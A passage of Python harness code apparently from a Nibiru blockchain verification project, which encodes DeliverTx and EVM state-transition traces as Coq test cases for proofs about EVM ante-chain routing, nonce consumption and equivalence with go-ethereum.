KINDS = {"eth": "MKLeaf K_ETH", "send": "MKLeaf K_SEND", "grant": "MKLeaf K_GRANT", "exec": "MKExec", "wasm": "MKWasm", "gov": "MKGov"}


def _tree(n):
    k = n["k"]
    if k == "eth":
        frm = 29 if n.get("bad") else n.get("from", 0)
        if n.get("cap"):
            price = "(eff_dynamic %s %s)" % (_z(n["cap"]), _z(n.get("tip") or "0"))
        else:
            price = "(eff_legacy %s)" % _z(n.get("price") or "1000000000000")
        if n.get("as") is not None:
            return "Leaf (EthTxAs %d %d %d %s %s %s %s)" % (n["as"], frm, n.get("nonce", 0), _z(n.get("gas", 0)), price, _val(n), _xinfo(n))
        return "Leaf (EthTx %d %d %s %s %s %s)" % (frm, n.get("nonce", 0), _z(n.get("gas", 0)), price, _val(n), _xinfo(n))
    if k == "send":
        return "Leaf (Send %d)" % n.get("from", 0)
    if k == "grant":
        return "Leaf (Grant %d %d (%s))" % (n.get("from", 0), n.get("to", 0), KINDS[n["t"]])
    cs = "[" + "; ".join(_tree(c) for c in n.get("c") or []) + "]"
    if k == "exec":
        return "Exec %d %s" % (n.get("g", 0), cs)
    if k == "wasm":
        return "Wasm %d 10 %s" % (n.get("g", 0), cs)
    if k == "gov":
        return "Gov %d %s" % (n.get("g", 0), cs)
    raise ValueError(k)


EXT = {"": "NoExt", "evm": "EvmExt", "other": "OtherExt"}
KEY = {"cosmos": "KCosmos", "eth": "KEth", "none": "KNone"}


def to_coq_case(rec):
    items = []
    for tx, ob in zip(rec["input"]["txs"], rec["obs"]):
        signer = tx["signer"] if tx["signer"] >= 0 else 98
        t = "{| t_ext := %s; t_signer := %d; t_key := %s; t_fee := (1000000)%%Z; t_msgs := [%s] |}" % (
            EXT[tx.get("ext", "")], signer, KEY[tx["key"]], "; ".join("(%s)" % _tree(m) for m in tx["msgs"]))
        es = "; ".join("{| eo_id := %d; eo_seq0 := %d; eo_dseq := %s; eo_dbal := %s |}" % (e["id"], e["seq0"], _z(e["dseq"]), _z(e["dbal"]))
                       for e in ob["eth"])
        xs = "; ".join("(%s, %s)" % (_z(e["used"]), "true" if e["failed"] else "false") for e in ob.get("exec") or [])
        o = "{| o_ok := %s; o_fired := [%s]; o_exec := [%s]; o_eth := [%s]; o_dfee := %s |}" % (
            "true" if ob["ok"] else "false", "; ".join(str(i) for i in ob["fired"]), xs, es, _z(ob["dfee"]))
        items.append("(%s, %s)" % (t, o))
    return "[%s]" % ";\n     ".join(items)


def _walk(n, depth, wrappers, out):
    if n["k"] == "eth":
        out.append((n, depth, tuple(wrappers)))
    for c in n.get("c") or []:
        _walk(c, depth + 1, wrappers + [n["k"]], out)


def _eths(tx):
    out = []
    for m in tx["msgs"]:
        _walk(m, 0, [], out)
    return out


def nontrivial(rec):
    evs = [json.dumps(tx, sort_keys=True) for tx in rec["input"]["txs"] if tx.get("ext") == "evm"]
    if len(set(evs)) < len(evs):
        return True
    for tx in rec["input"]["txs"]:
        es = _eths(tx)
        if any(d >= 1 for _, d, _ in es):
            return True
        if tx["key"] == "eth":
            return True
        ext = tx.get("ext", "")
        all_eth = all(m["k"] == "eth" for m in tx["msgs"])
        if (ext == "evm") != (all_eth and tx["key"] == "none"):
            return True
        if ext == "evm" and len(tx["msgs"]) > 1:
            return True
        if ext == "evm" and any(d == 0 and (n.get("ty") or n.get("prog") or n.get("val") not in (None, "", "1")) for n, d, _ in es):
            return True
        for n, d, ws in es:
            pr = int(n.get("cap") or n.get("price") or 10**12)
            if pr % 10**12 != 0 and n.get("gas", 0) > 21000:
                return True
    return False


def _exec_class(n, e):
    """how one fired Ethereum message ended, from the input descriptor and the reported gas / VM error"""
    create, data, ex, out = PROGS[n.get("prog", "")]
    intr = _intrinsic(create, data) + TY_INTRINSIC[n.get("ty", "")]
    kind = "create" if create else ("call" if n.get("prog", "").startswith("k-") else "transfer")
    if not e["failed"]:
        return "exec:%s ok" % kind
    if e["used"] == n.get("gas"):
        return "exec:%s all-gas-consumed (%s)" % (kind, "abort" if out == "XInvalid" and n.get("gas") - intr >= ex else "out-of-gas")
    if e["used"] == intr:
        return "exec:%s refused-before-evm (insufficient balance for value)" % kind
    return "exec:%s reverted" % kind


def classify(rec):
    ks = ["txs=%d" % len(rec["input"]["txs"])]
    seen = set()
    for tx, ob in zip(rec["input"]["txs"], rec["obs"]):
        if tx.get("ext") == "evm":
            key = json.dumps(tx, sort_keys=True)
            if key in seen:
                ks.append("evm tx delivered again: %s" % ("accepted" if ob["ok"] else "rejected"))
            seen.add(key)
            es0 = [n for n, d, _ in _eths(tx) if d == 0]
            if ob["ok"] and len(ob.get("exec") or []) == len(es0):
                for n, e in zip(es0, ob["exec"]):
                    ks.append(_exec_class(n, e))
            if not ob["ok"] and any(e["dseq"] != 0 for e in ob["eth"]):
                ks.append("evm tx admitted, messages failed (nonce consumed, prepayment kept)")
        ks.append("tx:ext=%s key=%s %s" % (tx.get("ext", "") or "none", tx["key"], "accepted" if ob["ok"] else "rejected"))
        for n, d, ws in _eths(tx):
            ks.append("eth-leaf depth=%d%s" % (min(d, 6), " under " + "/".join(ws[:3]) if ws else ""))
        if ob["fired"]:
            ks.append("fired=%d" % len(ob["fired"]))
        for n, d, ws in _eths(tx):
            if d == 0 and tx.get("ext") == "evm":
                pr = int(n.get("cap") or n.get("price") or 10**12)
                ks.append("evm-leaf price:%s %s gas:%s" % ("dynamic" if n.get("cap") else "legacy", "whole-unibi" if pr % 10**12 == 0 else "odd-wei", n.get("gas")))
                raw = min(10**12 + int(n.get("tip") or 0), int(n["cap"])) if n.get("cap") else pr
                band = "below-base-fee" if raw < 10**12 else ("at-base-fee" if raw == 10**12 else "above-base-fee")
                ks.append("evm-leaf type:%s named-price:%s%s%s" % (_ty(n)[1:], band, " (0 or 1 wei)" if raw <= 1 else "",
                                                                 " leftover-gas" if ob["ok"] and n.get("gas", 0) > 21000 + TY_INTRINSIC[n.get("ty", "")] and not n.get("prog") else ""))
    return ks


def describe(rec):
    return {"input": rec["input"], "observed": rec["obs"]}


def signature(rec):
    """Identify a violation by where the first offending observation sits."""
    for tx, ob in zip(rec["input"]["txs"], rec["obs"]):
        ext = tx.get("ext", "")
        es = _eths(tx)
        if ob["fired"] and ext != "evm":
            ws = es[ob["fired"][0]][2] if ob["fired"][0] < len(es) else ()
            return {"kind": "eth-handler-outside-evm-ante", "path": "/".join(ws) or "top-level", "key": tx["key"]}
        if ext != "evm" and any(e["dseq"] != 0 or int(e["dbal"]) != 0 for e in ob["eth"]):
            return {"kind": "eth-account-touched-by-cosmos-tx", "key": tx["key"]}
        if any(e["dseq"] < 0 for e in ob["eth"]):
            return {"kind": "nonce-rewound"}
        if any(int(e["dbal"]) > 0 for e in ob["eth"]) or int(ob["dfee"]) < 0:
            return {"kind": "unpaid-refund"}
    seen = set()
    for tx, ob in zip(rec["input"]["txs"], rec["obs"]):
        if tx.get("ext") != "evm":
            continue
        es0 = [n for n, d, _ in _eths(tx) if d == 0]
        if ob["ok"] or any(e["dseq"] != 0 or int(e["dbal"]) != 0 for e in ob["eth"]):
            want = {}
            for n in es0:
                want[n.get("from")] = want.get(n.get("from"), 0) + 1
            if any(e["dseq"] != want.get(e["id"], 0) for e in ob["eth"]):
                return {"kind": "admitted-nonce-not-consumed-once"}
            for n in es0:
                k = (n.get("from"), n.get("nonce", 0))
                if k in seen:
                    return {"kind": "same-nonce-admitted-twice"}
                seen.add(k)
    return {"kind": "evm-admission-accounting"}


def input_size(inp):
    return len(json.dumps(inp))


def _drop_nodes(n):
    out = []
    cs = n.get("c") or []
    for i in range(len(cs)):
        if len(cs) > 1:
            out.append(dict(n, c=cs[:i] + cs[i + 1:]))
        for v in _drop_nodes(cs[i]):
            out.append(dict(n, c=cs[:i] + [v] + cs[i + 1:]))
    return out


def shrink_candidates(inp):
    out = []
    txs = inp["txs"]
    for i in range(len(txs)):
        if len(txs) > 1:
            out.append(dict(inp, txs=txs[:i] + txs[i + 1:]))
    for i, tx in enumerate(txs):
        ms = tx["msgs"]
        for j in range(len(ms)):
            if len(ms) > 1:
                out.append(dict(inp, txs=txs[:i] + [dict(tx, msgs=ms[:j] + ms[j + 1:])] + txs[i + 1:]))
            for v in _drop_nodes(ms[j]):
                out.append(dict(inp, txs=txs[:i] + [dict(tx, msgs=ms[:j] + [v] + ms[j + 1:])] + txs[i + 1:]))
    return out


def _eth(frm, nonce, gas=21000):
    return {"k": "eth", "from": frm, "nonce": nonce, "gas": gas}


def _eth_as(claimed, frm, nonce, gas=50000):
    return {"k": "eth", "from": frm, "nonce": nonce, "gas": gas, "as": claimed}


def _ethx(frm, nonce, gas, val, prog):
    return {"k": "eth", "from": frm, "nonce": nonce, "gas": gas, "val": val, "prog": prog, "price": "0"}


def _ex(g, *c):
    return {"k": "exec", "g": g, "c": list(c)}


def _wa(*c):
    return {"k": "wasm", "g": 0, "c": list(c)}


def _evm(*ms):
    return {"ext": "evm", "signer": -1, "key": "none", "msgs": list(ms)}


def _cos(s, *ms):
    return {"signer": s, "key": "cosmos", "msgs": list(ms)}


def _ek(s, *ms):
    return {"signer": s, "key": "eth", "msgs": list(ms)}


# must mirror coq/C02/Sweep.v `sweep_cases` (same order)
SWEEP_INPUTS = [
    {"txs": [_evm(_eth(20, 0)), _cos(1, _eth(20, 0, 50000))]},
    {"txs": [_evm(_eth(20, 0)), _cos(1, _ex(1, _eth(20, 0, 50000)))]},
    {"txs": [_evm(_eth(20, 0)), _cos(1, _ex(1, _ex(1, _eth(20, 0, 50000))))]},
    {"txs": [_evm(_eth(20, 0)), _cos(1, _ex(1, _ex(1, _ex(1, _eth(20, 0, 50000)))))]},
    {"txs": [_evm(_eth(20, 0)), _ek(20, _ex(20, _eth(20, 0, 50000)))]},
    {"txs": [_evm(_eth(20, 0)), _ek(20, _ex(20, _ex(20, _eth(20, 0, 50000))))]},
    {"txs": [_evm(_eth(20, 0)), _cos(0, _wa(_eth(20, 0, 50000)))]},
    {"txs": [_evm(_eth(20, 0)), _cos(0, _wa(_ex(20, _eth(20, 0, 50000))))]},
    {"txs": [_evm(_eth(20, 0)), _cos(0, _wa(_ex(10, _ex(20, _eth(20, 0, 50000)))))]},
    {"txs": [_evm(_eth(20, 0)), _evm(_eth(20, 0))]},
    {"txs": [_evm(_eth(20, 0)), _evm(_eth(20, 3))]},
    {"txs": [_evm(_eth(20, 0)), {"signer": -1, "key": "none", "msgs": [_eth(20, 0, 50000)]}]},
    {"txs": [_evm(_eth(20, 0)), {"ext": "other", "signer": -1, "key": "none", "msgs": [_eth(20, 0, 50000)]}]},
    {"txs": [_ek(20, _ex(20, {"k": "grant", "from": 20, "to": 1, "t": "eth"})), _cos(1, _ex(1, _ex(1, _eth(20, 0, 50000))))]},
    {"txs": [_evm(_eth(20, 0)), _cos(1, _ex(1, _ex(1, _eth_as(1, 20, 0))))]},
    {"txs": [_evm(_eth(20, 0)), _cos(0, _wa(_ex(10, _eth_as(10, 20, 0))))]},
    {"txs": [_evm(_eth(20, 0)), _cos(1, _ex(1, _eth_as(1, 20, 0)))]},
    {"txs": [_evm(_eth(20, 0)), _cos(1, _eth_as(1, 20, 0))]},
    {"txs": [_evm(dict(_eth(20, 0), price="5000000000000"), dict(_eth(21, 0, 100000), price="1", ty="al"))]},
    {"txs": [_evm(dict(_eth(20, 0), price="5000000000000"), dict(_eth(21, 0, 100000), price="1"))]},
    {"txs": [_evm(dict(_eth(20, 0), price="5000000000000"), dict(_eth(21, 0, 100000), cap="1", tip="1"))]},
    {"txs": [_evm(_ethx(23, 0, 100000, "350000", "c-stop"))] * 2},
    {"txs": [_evm(_ethx(23, 0, 100000, "350000", "k-stop"))] * 2},
    {"txs": [_evm(_ethx(20, 0, 100000, "7", "c-revert"))] * 2},
    {"txs": [_evm(_ethx(20, 0, 60000, "0", "c-invalid"))] * 2},
    {"txs": [_evm(_ethx(21, 0, 21000, "600000000000000", ""), _ethx(21, 1, 80000, "600000000000000", "c-stop")),
             _evm(_ethx(21, 1, 80000, "600000000000000", "c-stop"))]},
]


def model_search(chk):
    """Evaluate the MODEL (with the regenerated facts) on a fixed family of short histories inside Coq and
    return those on which the property predicate fails, as harness inputs (replayed on the implementation)."""
    import os, re
    wd = os.path.join(chk.BUILD, "run", ID)
    os.makedirs(wd, exist_ok=True)
    path = os.path.join(wd, "sweep_C02.v")
    open(path, "w").write("""From Coq Require Import List Arith ZArith. Import ListNotations.
Require Import Nib.C17.AnteFacts Nib.C17.MsgTree Nib.C02.Model Nib.C02.Spec Nib.C02.Check Nib.C02.Current Nib.C02.Sweep.
Set Printing Width 1000000. Set Printing Depth 1000000.
Definition bad := Eval vm_compute in sweep_bad current_cfg.
Print bad.
""")
    rc, out, _ = chk.coqc(path)
    if rc != 0:
        return []
    m = re.search(r"bad\s*=\s*(\[.*?\])\s*:", out, re.S)
    if not m:
        return []
    ids = [int(x) for x in re.findall(r"\d+", m.group(1))]
    return [SWEEP_INPUTS[i] for i in ids if i < len(SWEEP_INPUTS)]


MANIFEST = {
    "level_claimed": {
        "category": "proof",
        "text": ("Coq theorems over an executable model of DeliverTx (routing on the extension option -> EVM / non-EVM ante "
                 "chains as listed by the generated facts -> router with authz / wasm / gov / ICA dispatch -> Keeper.EthereumTx): "
                 "C02_eth_handler_only_behind_evm_ante and its history form — for EVERY transaction and history, message trees "
                 "of any depth/shape, any grants and signers, an Ethereum message whose handler ran was a DIRECT message of a tx "
                 "with the EVM extension option that the EVM ante chain admitted (nonce = sequence and consumed, gas x price "
                 "prepaid); C02_admitted_nonce_consumed_exactly_once (on the committed state every sender's sequence advanced by "
                 "exactly the number of its admitted messages, whatever the EVM execution did: creation or call, success, "
                 "REVERT, abort, out of gas, refused for lack of funds before the EVM touched the nonce, message failure) and "
                 "C02_admitted_nonce_never_admitted_again (the same signed bytes are turned away for ever); "
                 "corollaries C02_nonce_never_rewound and C02_refund_covered_by_prepayment; "
                 "C02_no_wrapper_reaches_the_eth_handler is the structural induction over message trees with the invariant "
                 "'no grant has an Ethereum-derived granter'. The ante chains, extension-option arms, registered extension "
                 "options, guard type tests, wasm handler checks, installed SigGasConsumer, GetSigners shape and what ApplyEvmMsg writes into the sender "
                 "nonce after evm.Call / evm.Create are re-extracted "
                 "from /repo on every run and C02_holds_for_current_tree is re-checked. The model is run against real DeliverTx "
                 "traces (accepted?, which leaves fired EventEthereumTx with which gas used / VM error, per-account nonce/balance "
                 "deltas on the committed state, fee-collector delta, the same signed tx delivered again) "
                 "and the proved-sound Pb is evaluated on them. Each needed fact has a refutation theorem."),
        "design_ref": "DESIGN.md §5 C02",
    },
    "level_note": ("Premises of every theorem (cryptographic / SDK facts, not axioms): Hdisj — module, contract, interchain-account "
                   "addresses are not Ethereum-key-derived and signature recovery yields Ethereum-derived addresses (world_ok, "
                   "tx_wf); Hsig — the Cosmos signature path rejects eth_secp256k1 keys (cfg flag tied to the generated fact "
                   "SigGasConsumer = DefaultSigVerificationGasConsumer, and probed on every run by ~200 Cosmos txs signed with an "
                   "eth key). The two Nibiru guards are defence in depth and not used by the proof (their presence is a separate "
                   "obligation). The EVM interpreter is not modelled: Ethereum messages carry a descriptor of what the code does "
                   "(call / creation, intrinsic gas, gas needed, stop / REVERT / abort) — ten fixed programs are driven; the two "
                   "per-decorator loops of the EVM chain are folded into one pass per message; ICA is covered by the theorems but "
                   "not driven. Trusted: Coq kernel + vm_compute; the go/ast extractor (shared with C17); the Go driver and "
                   "tools/props/c02.py; SDK/wasmd dispatch rules as modelled (pinned by the correspondence)."),
    "technique": "Coq proof (invariant over histories + structural induction over message trees) over generated ante/wasm facts + differential correspondence on DeliverTx traces",
}
