"""C03 — Nibiru EVM state transitions equal go-ethereum's on the same program (partial: theorem at the vm.StateDB interface)."""

ID = "C03"
HARNESS_TEST = "TestC03.*"
GEN = "c03"
COQ_MODEL = ["C03/Check.v", "C03/Discipline.v", "Gen/C03Facts.v"]
COQ_PROOF_DEPS = ["C03/Proofs.v"]
COQ_OBLIG = ["C03/Property.v", "Gen/C03Oblig.v"]
CASES_HEADER = "Require Import Nib.C03.Model Nib.C03.Ref Nib.C03.Spec Nib.C03.Check."
CASE_TYPE = "case"
MISMATCH_FN = "mismatch"
VIOLATES_FN = "violates"
HARNESS_TIMEOUT = {"quick": 600, "thorough": 7200}
RULE = ("driver (a): case = history of 2-4 transactions over 5 private addresses x 4 storage keys; a transaction = sequence of vm.StateDB "
        "calls (interpreter-shaped: access-list preparation, nonce bracket, nested call frames = Snapshot .. [RevertToSnapshot], "
        "transfers, SSTORE with refund bookkeeping, CREATE pattern, SELFDESTRUCT pattern, logs, reads of every getter) run on "
        "Nibiru's statedb.StateDB+keeper and on go-ethereum core/state; every 5th case is from the malformed stream (CreateAccount "
        "on live contracts, stale snapshot ids, refund underflow, sub-unibi amounts, suicide of anything, mid-tx PrepareAccessList). "
        "non-trivial = some transaction successfully reverts a snapshot taken before a state mutation AND a later transaction reads "
        "or commits the affected accounts; distinct = distinct input.  driver (b): case = generated EVM bytecode for up to 3 contracts "
        "(SSTORE/SLOAD, LOG1, CALL/CALLCODE/DELEGATECALL/STATICCALL to contracts, EOAs and empty addresses with and without value "
        "and gas limits, CREATE/CREATE2 with succeeding or reverting init code, SELFDESTRUCT, REVERT, INVALID, RETURN), a call or "
        "creation message with random gas limit, value, access list, run through Keeper.ApplyEvmMsg and geth core.ApplyMessage; "
        "non-trivial = executed and contains a nested call/create plus a state change or abort, or reaches a standard precompile; bodies (also of "
        "driver (c)) contain `pre` statements = CALL of a standard precompile 0x01..0x09 with valid / boundary / malformed inputs (MODEXP with 10 "
        "operand-length shapes x 3 exponent heads), outputs optionally returned, and 1/7 of the messages go straight to a precompile address; the "
        "go-ethereum side uses its OWN precompile set for the chain rules (upstream London).  driver (c): case = HISTORY of 3-6 signed "
        "MsgEthereumTx (2 senders with real keys, one of them poor; up to 3 generated contracts; calls, creations, plain transfers, access "
        "lists, calldata) delivered like baseapp.runTx: each message on its own ctx.CacheContext() branch through the real EVM ante chain and "
        "Keeper.EthereumTx, written back only on success, NOTHING reset between messages (the process-wide per-tx StateDB pointer is left to "
        "the code), vs go-ethereum core.ApplyMessage on the same sequence; ~45 % of the messages are rejected before execution (gas limit "
        "below intrinsic gas, wrong nonce, funds below gas*price+value) or fail in the VM; both sides observed after EVERY message (verdict, "
        "gas, error class, return data, logs + tx hash of every log, committed balance/nonce/code/storage); every message is legacy / "
        "access-list / dynamic-fee with gas price or fee cap at / above / far above / below the base fee and tip 0 / small / = cap / above cap, "
        "and in ~40 % of the messages the sender balance is SET (both sides) to gas*effectivePrice+value or gas*feeCap+value -1/0/+1 unibi, so "
        "the admission decision is compared with geth's preCheck/buyGas.  non-trivial = a rejected or "
        "VM-failed message is followed later by an ordinary successful one")
ASSUMPTIONS = [
    "the geth interpreter (shared code on both sides) is not modelled; the theorem is about every protocol-obeying call sequence",
    "a contract code is identified with its hash (content-addressed store); code ids are code lengths in the harness",
    "go-ethereum deletes touched empty accounts at the end of a transaction (EIP-158), Nibiru keeps them: compared up to 'non-existent = empty'",
    "balances move in whole multiples of 10^12 wei (side condition of the property); off that condition only model-vs-Nibiru is compared",
    "message histories: ante chain and message share one cache-context branch, so a message rejected at either stage has no effect at all "
    "(go-ethereum's meaning of an invalid message); that a delivered-but-failed Cosmos tx still pays its fee and bumps the sequence is C05's subject",
    "message-layer model: the fee collector is outside the modelled address universe (fee leaves / refund reaches the sender only); "
    "an executed message carries the list of vm.StateDB calls it issues and the gas it reports (interpreter not modelled)",
]
TRUSTED = ["Go driver harness/c03 (encoding of addresses/keys/codes as small ids, panic capture)",
           "go-ethereum core/state as the executable meaning of 'upstream go-ethereum state implementation'"]

_MUT = {"create", "sub", "add", "setnonce", "setcode", "setstate", "suicide", "addrefund", "subrefund", "log", "addal", "addslot", "prepare"}


def _z(n):
    return str(int(n))


def _op(o):
    k = o["k"]
    a, ky, v = o.get("a", 0), o.get("key", 0), o.get("v", 0)
    if k == "create": return "OCreateAccount %d" % a
    if k == "sub": return "OSubBalance %d %s" % (a, _z(v))
    if k == "add": return "OAddBalance %d %s" % (a, _z(v))
    if k == "bal": return "OGetBalance %d" % a
    if k == "nonce": return "OGetNonce %d" % a
    if k == "setnonce": return "OSetNonce %d %s" % (a, _z(v))
    if k == "codehash": return "OGetCodeHash %d" % a
    if k == "code": return "OGetCode %d" % a
    if k == "setcode": return "OSetCode %d %s" % (a, _z(v))
    if k == "codesize": return "OGetCodeSize %d" % a
    if k == "addrefund": return "OAddRefund %s" % _z(v)
    if k == "subrefund": return "OSubRefund %s" % _z(v)
    if k == "refund": return "OGetRefund"
    if k == "cstate": return "OGetCommittedState %d %d" % (a, ky)
    if k == "state": return "OGetState %d %d" % (a, ky)
    if k == "setstate": return "OSetState %d %d %s" % (a, ky, _z(v))
    if k == "suicide": return "OSuicide %d" % a
    if k == "suicided": return "OHasSuicided %d" % a
    if k == "exist": return "OExist %d" % a
    if k == "empty": return "OEmpty %d" % a
    if k == "inal": return "OAddrInAL %d" % a
    if k == "slotinal": return "OSlotInAL %d %d" % (a, ky)
    if k == "addal": return "OAddAddrAL %d" % a
    if k == "addslot": return "OAddSlotAL %d %d" % (a, ky)
    if k == "prepare":
        dst = "None" if o.get("dst") is None else "(Some %d)" % o["dst"]
        pre = "[" + "; ".join(str(p) for p in (o.get("pre") or [])) + "]"
        al = "[" + "; ".join("(%d, [%s])" % (el[0], "; ".join(str(x) for x in el[1:])) for el in (o.get("al") or [])) + "]"
        return "OPrepareAL %d %s %s %s" % (a, dst, pre, al)
    if k == "snap": return "OSnapshot"
    if k == "revert": return "ORevert %s" % _z(v)
    if k == "log": return "OAddLog %s" % _z(v)
    if k == "logs": return "OLogs"
    raise ValueError(k)


def _zl(xs):
    return "[" + "; ".join(("(%s)" % _z(x)) if int(x) < 0 else _z(x) for x in xs) + "]"


def _obs(side):
    out = []
    for tx in side:
        rets = "[" + "; ".join(_zl(r) for r in tx["rets"]) + "]"
        rows = []
        for r in tx["table"]:
            code = r.get("c", 0)
            if tx.get("err"):
                code = -7  # a failed commit never matches the model
            rows.append("(%s, %s, %s, %s, %s)" % ("true" if r["e"] else "false", _z(r["b"]), _z(r["n"]),
                                                  ("(%d)" % code) if code < 0 else str(code), _zl(r["s"])))
        out.append("mk_obs %s [%s]" % (rets, "; ".join(rows)))
    return "[" + "; ".join(out) + "]"


N_ADDRS, N_KEYS = 5, 4


def _rows(rows, err=None):
    out = []
    for r in rows:
        code = r.get("c", 0)
        out.append("(%s, %s, %s, %s, %s)" % ("true" if r["e"] else "false", _z(r["b"]), _z(r["n"]),
                                             ("(%d)" % code) if code < 0 else str(code), _zl(r["s"])))
    return "[" + "; ".join(out) + "]"


def _pobs(o):
    return "(mk_pobs %s %s %s %s %s %s)" % ("true" if o["rejected"] else "false", _z(o["gas"]), _z(o["err"]),
                                           _zl(o.get("ret") or []), _zl(o.get("logs") or []), _rows(o["state"]))


def _is_prog(rec):
    return rec.get("driver") == "prog"


def _is_msgs(rec):
    return rec.get("driver") == "msgs"


def _intrinsic(h):
    return 21000 + (32000 if h["create"] else 0) + 16 * h["nz"] + 4 * h["z"] + 2400 * h["al_addrs"] + 1900 * h["al_keys"]


def _msg_classes(rec):
    """per message: how it ended on Nibiru (class of the rejection from the input, not from an error text)"""
    out = []
    ob = rec["obs"]
    for m, h, n in zip(rec["input"]["msgs"], ob["hdrs"], ob["nib"]):
        if n["rejected"]:
            if m.get("dnonce"):
                out.append("rejected-nonce")
            elif int(h["cap"]) < int(h["base"]) or int(h["cap"]) < int(h["tip"]):
                out.append("rejected-caps")
            elif h["gas"] < _intrinsic(h):
                out.append("rejected-intrinsic-gas")
            else:
                out.append("rejected-funds")
        elif n["err"] != 0:
            out.append("vm-error")
        else:
            out.append("ok")
    return out


def _msgs_case(rec):
    ob = rec["obs"]
    hdrs = []
    for h, n in zip(ob["hdrs"], ob["nib"]):
        hdrs.append("(mk_hdr %d %s %s %s %s %s %s %s %d %d %d %d %s, %s)" % (
            h["from"], _z(h["nonce"]), _z(h["gas"]), _z(h["base"]), _z(h["tip"]), _z(h["cap"]), _z(h["value"]),
            "true" if h["create"] else "false", h["nz"], h["z"], h["al_addrs"], h["al_keys"], _z(n["gas"]),
            _z(h["placed"]) if h.get("placed") else "(-1)"))
    obs = ["(%s, %s, %s)" % (_pobs(n), _pobs(g), "true" if ok else "false") for n, g, ok in zip(ob["nib"], ob["geth"], ob["hash_ok"])]
    return "(mk_msgs %s %s [%s] [%s])%%Z" % (_rows(ob["init_nib"]), _rows(ob["init_geth"]), "; ".join(hdrs), "; ".join(obs))


def to_coq_case(rec):
    if _is_msgs(rec):
        return _msgs_case(rec)
    if _is_prog(rec):
        ob = rec["obs"]
        head = "%s %s %s %s %s" % (_z(ob["quot"]), _z(ob["refund"]),
                                   ("(%d)" % ob["used_pre"]) if ob["used_pre"] < 0 else _z(ob["used_pre"]),
                                   _pobs(ob["nib"]), _pobs(ob["geth"]))
        if ob.get("modexp"):
            return "(mk_prog_modexp %s %s)%%Z" % (head, " ".join(_z(x) for x in ob["modexp"]))
        return "(mk_prog %s)%%Z" % head
    txs = "[" + "; ".join("[" + "; ".join(_op(o) for o in tx) + "]" for tx in rec["input"]) + "]"
    return "(mk_case [0;1;2;3;4] [0;1;2;3] %s %s %s)%%Z" % (txs, _obs(rec["obs"]["nib"]), _obs(rec["obs"]["geth"]))


def _reverts(rec):
    """(tx index, set of addresses mutated inside a successfully reverted frame)"""
    res = []
    for ti, (tx, ob) in enumerate(zip(rec["input"], rec["obs"]["nib"])):
        snaps = {}
        muts = []
        for i, (o, r) in enumerate(zip(tx, ob["rets"])):
            if o["k"] == "snap" and r and r[0] >= 0:
                snaps[r[0]] = len(muts)
            elif o["k"] == "revert" and r == [] and o["v"] in snaps:
                inside = muts[snaps[o["v"]]:]
                if inside:
                    res.append((ti, {a for a in inside}))
            elif o["k"] in _MUT:
                muts.append(o.get("a", 0))
    return res


def _prog_kinds(rec):
    return {s["k"] for b in rec["input"]["bodies"] for s in b}


def _reject_then_ok(cl):
    """a message rejected before execution or failed in the VM, and LATER an ordinary successful message"""
    seen = False
    for c in cl:
        if c != "ok":
            seen = True
        elif seen:
            return True
    return False


def nontrivial(rec):
    if _is_msgs(rec):
        return _reject_then_ok(_msg_classes(rec))
    if _is_prog(rec):
        ks = _prog_kinds(rec)
        ob = rec["obs"]["nib"]
        # executed, and has a nested call/create together with a state change or an abort
        if (not ob["rejected"]) and ("pre" in ks or rec["input"].get("pre")):
            return True  # reaches a standard precompile
        return (not ob["rejected"]) and bool(ks & {"call", "dcall", "scall", "ccall", "create", "create2"}) and \
            bool(ks & {"sstore", "selfdestruct", "revert", "invalid", "log"})
    rv = _reverts(rec)
    return bool(rv) and len(rec["input"]) >= 2


def classify(rec):
    if _is_msgs(rec):
        cl = _msg_classes(rec)
        ks = ["driver:msgs", "msgs=%d" % len(cl), "msgs:reject-then-ok" if _reject_then_ok(cl) else "msgs:no-reject-then-ok"]
        ks += ["msg:" + c for c in cl]
        ks += ["msg-to:%s" % ("create" if m["to"] < 0 else ("contract" if m["to"] < 3 else "eoa")) for m in rec["input"]["msgs"]]
        for m, h, c in zip(rec["input"]["msgs"], rec["obs"]["hdrs"], cl):
            typ = {0: "access-list" if m.get("al") else "legacy", 1: "access-list", 2: "dynamic-fee"}[m.get("typ", 0)]
            ks.append("msg-type:" + typ)
            base, tip, cap = int(h["base"]), int(h["tip"]), int(h["cap"])
            eff = max(base, min(tip + base, cap))
            ks.append("price:%s" % ("cap<base" if cap < base else ("tip>cap" if tip > cap else ("cap>effective" if cap > eff else ("effective=cap>base" if cap > base else "at-base")))))
            if m.get("place"):
                w, d = m["place"]
                side = "below" if d < 0 else ("at" if d == 0 else "above")
                ks.append("balance-%s-%s-limit" % (side, "effective" if w == 1 else "cap"))
                if cap > eff and tip <= cap and cap >= base:
                    ks.append("placed-with-cap>effective:" + ("admitted" if not c.startswith("rejected") else c))
        for i in range(1, len(cl)):
            if cl[i] == "ok" and cl[i - 1] != "ok":
                ks.append("ok-right-after:" + cl[i - 1])
        return ks
    if _is_prog(rec):
        ob = rec["obs"]
        ks = ["driver:prog", "prog-err:%d" % ob["nib"]["err"], "prog-rejected" if ob["nib"]["rejected"] else "prog-executed",
              "prog-to:%s" % ("create" if rec["input"]["to"] < 0 else "call"),
              "prog-refund:%s" % ("0" if ob["refund"] == 0 else ("capped" if ob["used_pre"] >= 0 and ob["refund"] > ob["used_pre"] // 5 else "full"))]
        ks += ["stmt:" + k for k in sorted(_prog_kinds(rec))]
        ks += ["precompile:0x%02x" % ((st.get("a", 1) - 1) % 9 + 1) for b in rec["input"]["bodies"] for st in b if st["k"] == "pre"]
        if rec["input"].get("pre"):
            ks.append("top-level-precompile:0x%02x" % ((rec["input"]["pre"][0] - 1) % 9 + 1))
        return ks
    ks = ["driver:seq", "txs=%d" % len(rec["input"]), "stream:" + rec.get("stream", "?")]
    depth_max = 0
    for tx, ob in zip(rec["input"], rec["obs"]["nib"]):
        ks.append("len=%d0s" % (len(tx) // 10))
        d = 0
        for o, r in zip(tx, ob["rets"]):
            ks.append("op:" + o["k"])
            if r == [-99]:
                ks.append("panic:" + o["k"])
            if o["k"] == "snap":
                d += 1
                depth_max = max(depth_max, d)
            if o["k"] == "revert" and r == []:
                ks.append("revert-ok")
                d = max(0, d - 1)
    ks.append("snap-depth<=%d" % depth_max)
    ks.append("reverted-mutations" if _reverts(rec) else "no-reverted-mutation")
    return ks


def describe(rec):
    return {"input": rec["input"], "observed": rec["obs"]}


def _norm_rows(rows):
    out = []
    for r in rows:
        if (not r["e"]) or (int(r["b"]) == 0 and r["n"] == 0 and r.get("c", 0) == 0):
